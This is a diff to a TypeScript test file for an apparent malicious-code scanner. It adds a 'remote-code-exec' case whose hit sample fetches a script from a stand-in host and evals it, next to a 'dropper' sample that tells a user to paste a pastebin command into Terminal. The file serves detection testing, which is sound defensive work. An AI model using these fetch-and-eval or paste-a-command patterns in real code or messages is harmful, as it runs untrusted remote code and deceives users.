@@ -118,6 +118,11 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: 'const c = new net.Socket();\nc.connect(80, "h", () => c.write("GET /"));',
     path: "x.js",
   },
+  "remote-code-exec": {
+    hit: 'const res = await fetch("https://x.example/c.js");\neval(await res.text());',
+    miss: 'const res = await fetch("https://x.example/c.json");\nconsole.log(await res.json());',
+    path: "x.js",
+  },
   dropper: {
     hit: "Open https://pastebin.com/raw/Ab12 and paste the command into Terminal.",
     miss: "See https://pastebin.com/raw/Ab12 for the sample log output.",
